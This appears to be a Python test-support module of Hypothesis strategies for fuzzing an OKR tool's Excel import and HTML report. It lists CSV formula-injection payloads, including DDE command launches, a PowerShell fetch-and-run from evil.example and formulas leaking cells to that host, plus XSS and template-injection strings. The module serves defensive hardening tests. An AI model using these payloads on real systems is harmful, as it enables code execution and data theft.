"""Shared hypothesis strategies and attack strings for the hardening tests.

Workbooks are fuzzed from a *valid exported* workbook: ``template(lang)``
exports a small cut of a sample workshop with ``write_excel`` and keeps both
its bytes and its cell grid. Structural mutations edit the grid and rebuild a
plain workbook with openpyxl (``build``); raw cells (numbers too big for a
float, error cells, dangling shared strings) are patched into the XML after
saving, because openpyxl refuses to write them. Byte mutations work on the
exported file itself, outside and inside the zip's compressed streams.
"""

from __future__ import annotations

import datetime as dt
import functools
import io
import re
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

import okr_workshop as okr

# --------------------------------------------------------------------------- attack strings

# OWASP "CSV injection" payloads: a spreadsheet program runs text that starts like this.
FORMULA_INJECTION = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    'DDE("cmd";"/C calc";"!A0")A0',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "@cmd|'/c notepad'!'A1'",
    "+cmd|' /C powershell IEX(wget evil.example/x.ps1)'!A0",
    "-cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "＝1+1",  # full-width equals sign
    " =1+1",
]

# Markup that must never come out live in the HTML report (the report notebook renders markdown too).
HTML_INJECTION = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe src=javascript:alert(1)></iframe>",
    "javascript:alert(1)",
    "[klicka](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "<a href='http://evil.example'>länk</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;&quot;&#x3C;b&#x3E;",
    "{{ 7*7 }} {{ config }}",
    "{% for x in range(3) %}x{% endfor %}",
    "${7*7} #{7*7}",
    "<style>body{display:none}</style>",
    "<!-- kommentar --> <b>fet</b>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "<http://evil.example/autolink>",
    "</td></tr></table><h1>utbruten</h1>",
]

ALL_INJECTION = FORMULA_INJECTION + HTML_INJECTION

# --------------------------------------------------------------------------- the template


def small_workshop(lang: str = "sv") -> okr.Workshop:
    """A small cut of a sample workshop (two teams, a few check-ins), so a fuzz example stays cheap."""
    ws = okr.samples.load("exempel-ab" if lang == "sv" else "acme")
    for team in list(ws.teams)[2:]:
        ws.remove_team(team)
    for team in ws.teams:
        for obj in list(team.objectives)[2:]:
            team.remove_objective(obj)
        for obj in team.objectives:
            for kr in list(obj.key_results)[3:]:
                obj.remove_key_result(kr)
            for kr in obj.key_results:
                del kr.check_ins[2:]
    return ws


@dataclass
class Sheet:
    """One sheet as a grid of (value, data_type); merged ranges kept separately."""

    title: str
    state: str
    rows: list[list[tuple[Any, str]]]
    merged: list[str] = field(default_factory=list)


@dataclass
class Template:
    lang: str
    xlsx: bytes  # the file write_excel wrote
    okr_file: bytes  # the workshop file it was exported from
    sheets: list[Sheet]

    def grid(self) -> list[Sheet]:
        return [Sheet(s.title, s.state, [list(r) for r in s.rows], list(s.merged)) for s in self.sheets]


@functools.cache
def template(lang: str, folder: str) -> Template:
    """The exported workbook of ``small_workshop(lang)`` (and its workshop file), read once."""
    from openpyxl import load_workbook

    ws = small_workshop(lang)
    base = Path(folder)
    base.mkdir(parents=True, exist_ok=True)
    xlsx, okr_path = base / f"template-{lang}.xlsx", base / f"template-{lang}.okr"
    okr.save(ws, okr_path)
    okr.write_excel(okr.load(okr_path), xlsx)
    wb = load_workbook(xlsx)
    sheets = [
        Sheet(s.title, s.sheet_state, [[(c.value, c.data_type) for c in row] for row in s.iter_rows()])
        for s in wb.worksheets
    ]
    return Template(lang, xlsx.read_bytes(), okr_path.read_bytes(), sheets)


# --------------------------------------------------------------------------- raw cells


@dataclass(frozen=True)
class Raw:
    """A cell written straight into the sheet XML: ``<c t="{t}"><v>{v}</v></c>``."""

    t: str
    v: str


RAW_CELLS = [
    Raw("n", "1" + "0" * 400),  # an integer no float can hold
    Raw("n", "-" + "9" * 330),
    Raw("n", "1e309"),
    Raw("n", "-1e309"),
    Raw("n", "inf"),
    Raw("n", "NaN"),
    Raw("n", "1,5"),
    Raw("n", "tio"),
    Raw("n", ""),
    Raw("e", "#DIV/0!"),
    Raw("e", "#REF!"),
    Raw("b", "1"),
    Raw("b", "2"),
    Raw("s", "0"),  # a shared string in a workbook without a shared-strings part
    Raw("s", "99999"),
    Raw("s", "-1"),
    Raw("d", "2027-02-30"),
    Raw("d", "inte ett datum"),
    Raw("str", "cached formula text"),
]

_SENTINEL = "\ue000raw{}\ue000"
_RAW_CELL = re.compile(r'<c r="([A-Z]+[0-9]+)"([^>]*?) t="inlineStr"([^>]*)><is><t>\ue000raw(\d+)\ue000</t></is></c>')


def _patch_raw(xml: str, raws: list[Raw]) -> str:
    def sub(m: re.Match) -> str:
        raw = raws[int(m[4])]
        return f'<c r="{m[1]}"{m[2]} t="{raw.t}"{m[3]}><v>{raw.v}</v></c>'

    return _RAW_CELL.sub(sub, xml)


# --------------------------------------------------------------------------- building


def build(sheets: list[Sheet]) -> bytes:
    """A plain .xlsx from a grid (no styles): text stays text even when it starts with '='."""
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    raws: list[Raw] = []
    if not sheets:  # a workbook needs one sheet, and one of them visible, to be saved at all
        sheets = [Sheet("Blad1", "visible", [])]
    if all(s.state != "visible" for s in sheets):
        sheets[0].state = "visible"
    for sheet in sheets:
        out = wb.create_sheet(sheet.title)
        out.sheet_state = sheet.state
        for r, row in enumerate(sheet.rows, start=1):
            for c, (value, kind) in enumerate(row, start=1):
                if value is None:
                    continue
                if isinstance(value, Raw):
                    raws.append(value)
                    out.cell(r, c, _SENTINEL.format(len(raws) - 1))
                    continue
                cell = out.cell(r, c, value)
                if kind == "s" and isinstance(value, str):
                    cell.data_type = "s"  # a quoted '=…' stays text
                elif kind == "f":
                    cell.data_type = "f"
        for rng in sheet.merged:
            out.merge_cells(rng)
    buf = io.BytesIO()
    wb.save(buf)
    data = buf.getvalue()
    if raws:
        data = rewrite_members(data, lambda name, body: _patch_raw(body.decode(), raws).encode()
                               if name.startswith("xl/worksheets/") else body)  # fmt: skip
    return data


def rewrite_members(data: bytes, change) -> bytes:
    """Rebuild a zip with ``change(name, body) -> body`` applied to every member (a valid zip again)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, change(info.filename, src.read(info.filename)))
    return buf.getvalue()


# --------------------------------------------------------------------------- cell values

_XML_ILLEGAL = re.compile(r"[\000-\010\013\014\016-\037\ud800-\udfff\ufffe\uffff]")

UNICODE_SAMPLES = [
    "\u200fRTL-markering\u200e",  # marks stay; overrides (U+202E) are refused like control characters
    "مرحبا بالعالم",
    "שלום עולם",
    "👩🏽‍💻🚀🇸🇪",
    "e\u0301\u0301\u0301 Å A\u030a",
    "\u200b\u200c\u200d\ufeff",
    "\u2028rad\u2029stycke",
    "\x7f\x80\x85\x9f",
    "_x0000_ _x0001_ _x001F_",
    "Z̷̢̛a̸l̴g̵o̶",
    "Ⅻ ½ ² ١٢٣",
    "\t\n\r",
    "   ",
    "ÅÄÖ åäö",
]

NUMBERS_AS_TEXT = ["1e308", "-1e308", "1e309", "inf", "-inf", "Infinity", "NaN", "1 000", "1,5", "−5", "0x10",
                   "١٢٣", "1_000", "++1", "", " ", "10%", "5/10"]  # fmt: skip
DATES_AS_TEXT = ["2027-02-30", "2027-13-01", "30/02/2027", "2027-1-5", "idag", "Q1", "2027-02-15T25:00",
                 " 2027-02-15 ", "15.02.2027", "0000-00-00", "9999-12-31", "1899-12-30"]  # fmt: skip
SPECIAL_VALUES = [
    1e308, -1e308, 1e15 + 1, -1e16, 0.1 + 0.2, 5e-324, -0.0, 2**53 + 1, -(2**63), 2**63,
    True, False, 0, -1, 11, 5.5,
    dt.datetime(1900, 1, 1), dt.datetime(2027, 2, 15, 13, 45), dt.date(9999, 12, 31), dt.date(1066, 10, 14),
    dt.time(12, 30), dt.timedelta(days=3),
    "=1+1", "=A1", "=SUM(1,1)", '=HYPERLINK("http://evil.example","x")', "=1/0", "=NA()",
    "x" * 40_000, "é" * 12_000, ("Lång text " * 5000)[:40_000],
]  # fmt: skip


def _writable(text: str) -> bool:
    return not _XML_ILLEGAL.search(text)


texts = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40).filter(
    _writable
)

hostile_values = st.one_of(
    st.sampled_from(SPECIAL_VALUES),
    st.sampled_from(NUMBERS_AS_TEXT + DATES_AS_TEXT + UNICODE_SAMPLES + ALL_INJECTION),
    st.sampled_from(RAW_CELLS),
    st.none(),
    texts,
    st.floats(allow_nan=False, allow_infinity=False),
    st.integers(min_value=-(2**62), max_value=2**62),
    st.dates(min_value=dt.date(1, 1, 1)),
)

# --------------------------------------------------------------------------- structural mutations

SHEET_NAMES = ["Översikt", "Overview", "Nyckelresultat", "Key results", "Uppföljning", "Check-ins", "Listor",
               "Lists", "Kvalitet", "Quality", "overview", " Key  results ", "Blad1", "📊", "x" * 31]  # fmt: skip


@dataclass(frozen=True)
class Op:
    """One edit of a workbook grid; fields are reduced modulo the grid's size when applied."""

    name: str
    sheet: int = 0
    row: int = 0
    col: int = 0
    n: int = 1
    value: Any = None

    def __repr__(self) -> str:  # hypothesis prints failing examples; keep 40k strings short
        v = self.value
        if isinstance(v, str) and len(v) > 60:
            v = f"{v[:20]!r}…({len(v)} chars)"
        return f"Op({self.name}, sheet={self.sheet}, row={self.row}, col={self.col}, n={self.n}, value={v!r})"


def apply(ops: list[Op], sheets: list[Sheet]) -> list[Sheet]:
    """Apply edits in order (in place) and return the grid."""
    for op in ops:
        if op.name == "add_sheet":
            title = str(op.value)[:31]
            if not any(s.title == title for s in sheets):
                sheets.insert(op.sheet % (len(sheets) + 1), Sheet(title, "visible", [[("Lag", "s"), ("x", "s")]]))
            continue
        if not sheets:
            return sheets
        sheet = sheets[op.sheet % len(sheets)]
        rows = sheet.rows
        height = max(len(rows), 1)
        width = max((len(r) for r in rows), default=1)
        row, col = op.row % (height + 2), op.col % (width + 1)
        if op.name == "set":
            while len(rows) <= row:
                rows.append([])
            while len(rows[row]) <= col:
                rows[row].append((None, "n"))
            rows[row][col] = (op.value, "n")
        elif op.name == "header":  # rename, blank or duplicate a header cell
            if rows and rows[0]:
                rows[0][col % len(rows[0])] = (op.value, "s")
        elif op.name == "swap_cols":
            other = op.n % width
            for r in rows:
                while len(r) < width:
                    r.append((None, "n"))
                r[col % width], r[other] = r[other], r[col % width]
        elif op.name == "delete_col":
            for r in rows:
                if col < len(r):
                    del r[col]
        elif op.name == "insert_rows":
            for _ in range(op.n):
                rows.insert(min(row, len(rows)), [])
        elif op.name == "delete_rows":
            del rows[row : row + op.n]
        elif op.name == "duplicate_row":
            if rows:
                rows.insert(row % len(rows) + 1, list(rows[row % len(rows)]))
        elif op.name == "merge":
            h, w = 1 + op.n % 3, 1 + (op.n // 3) % 3
            from openpyxl.utils import get_column_letter

            if h * w > 1:
                sheet.merged.append(f"{get_column_letter(col + 1)}{row + 1}:{get_column_letter(col + w)}{row + h}")
        elif op.name == "delete_sheet":
            sheets.remove(sheet)
        elif op.name == "rename_sheet":
            title = str(op.value)[:31]
            if not any(s.title == title for s in sheets):
                sheet.title = title
        elif op.name == "swap_sheet_names":
            other = sheets[op.n % len(sheets)]
            if other is not sheet:
                sheet.title, other.title = other.title, sheet.title
        elif op.name == "hide":
            sheet.state = ("visible", "hidden", "veryHidden")[op.n % 3]
        else:
            raise AssertionError(op.name)
    return sheets


_index = st.integers(min_value=0, max_value=10_000)
_sheet_name = st.one_of(
    st.sampled_from(SHEET_NAMES), texts.filter(lambda s: s.strip() and not set(s) & set("[]:*?/\\"))
)

ops = st.one_of(
    st.builds(Op, st.just("set"), _index, _index, _index, value=hostile_values),
    st.builds(Op, st.just("set"), _index, _index, _index, value=hostile_values),
    st.builds(
        Op,
        st.just("header"),
        _index,
        col=_index,
        value=st.one_of(
            st.sampled_from(
                [
                    "Lag",
                    "Team",
                    "Mål",
                    "Objective",
                    "Nyckelresultat",
                    "Key result",
                    "NR-id",
                    "Key result id",
                    "Datum",
                    "Värde",
                    "Value",
                    "Tilltro (1–10)",
                    "",
                    None,
                    "Mätsätt ",
                    "TEAM",
                    "Målvärde",
                ]
            ),
            texts,
        ),
    ),  # fmt: skip
    st.builds(Op, st.just("swap_cols"), _index, col=_index, n=_index),
    st.builds(Op, st.just("delete_col"), _index, col=_index),
    st.builds(Op, st.just("insert_rows"), _index, _index, n=st.integers(1, 3)),
    st.builds(Op, st.just("delete_rows"), _index, _index, n=st.integers(1, 3)),
    st.builds(Op, st.just("duplicate_row"), _index, _index),
    st.builds(Op, st.just("merge"), _index, _index, _index, n=st.integers(1, 8)),
    st.builds(Op, st.just("delete_sheet"), _index),
    st.builds(Op, st.just("rename_sheet"), _index, value=_sheet_name),
    st.builds(Op, st.just("swap_sheet_names"), _index, n=_index),
    st.builds(Op, st.just("add_sheet"), _index, value=_sheet_name),
    st.builds(Op, st.just("hide"), _index, n=_index),
)

workbook_edits = st.lists(ops, min_size=1, max_size=4)

# --------------------------------------------------------------------------- byte mutations


@dataclass(frozen=True)
class ByteOp:
    name: str  # flip, delete, insert, overwrite, truncate
    pos: int
    n: int = 1
    data: bytes = b""
    from_end: bool = False  # aim at the central directory at the end of the zip


def mutate_bytes(data: bytes, edits: list[ByteOp]) -> bytes:
    buf = bytearray(data)
    for e in edits:
        if not buf:
            break
        size = len(buf)
        pos = (size - 1 - e.pos % min(size, 4096)) if e.from_end else e.pos % size
        if e.name == "flip":
            buf[pos] ^= 1 << (e.n % 8)
        elif e.name == "delete":
            del buf[pos : pos + e.n]
        elif e.name == "insert":
            buf[pos:pos] = e.data
        elif e.name == "overwrite":
            buf[pos : pos + len(e.data)] = e.data
        elif e.name == "truncate":
            del buf[pos:]
    return bytes(buf)


_BYTE_PAYLOADS = [b"\x00", b"\xff\xff\xff\xff", b"PK\x03\x04", b"PK\x01\x02", b"<!DOCTYPE x>", b"&#1;", b"]]>"]

byte_edits = st.lists(
    st.builds(
        ByteOp,
        st.sampled_from(["flip", "flip", "delete", "insert", "overwrite", "truncate"]),
        st.integers(min_value=0, max_value=10**7),
        st.integers(min_value=1, max_value=64),
        st.one_of(st.binary(min_size=1, max_size=16), st.sampled_from(_BYTE_PAYLOADS)),
        st.booleans(),
    ),
    min_size=1,
    max_size=3,
)


def member_offsets(data: bytes) -> dict[str, tuple[int, int]]:
    """Where each member's compressed bytes lie in the zip: name -> (start, length)."""
    zf = zipfile.ZipFile(io.BytesIO(data))
    out = {}
    for info in zf.infolist():
        head = info.header_offset
        name_len = int.from_bytes(data[head + 26 : head + 28], "little")
        extra_len = int.from_bytes(data[head + 28 : head + 30], "little")
        start = head + 30 + name_len + extra_len
        out[info.filename] = (start, info.compress_size)
    return out


def mutate_compressed(data: bytes, member: str, edits: list[ByteOp]) -> bytes:
    """Mutate the deflate stream of one member in place (the zip's CRC no longer matches)."""
    start, length = member_offsets(data)[member]
    body = mutate_bytes(data[start : start + length], edits)
    return data[:start] + body + data[start + length :]


def mutate_member(data: bytes, member: str, edits: list[ByteOp]) -> bytes:
    """Mutate the uncompressed XML of one member and zip it up again (a valid zip with broken contents)."""
    return rewrite_members(data, lambda name, body: mutate_bytes(body, edits) if name == member else body)


def crc_ok(data: bytes) -> bool:
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            return zf.testzip() is None
    except (zipfile.BadZipFile, zlib.error, OSError, ValueError, EOFError, NotImplementedError):
        return False
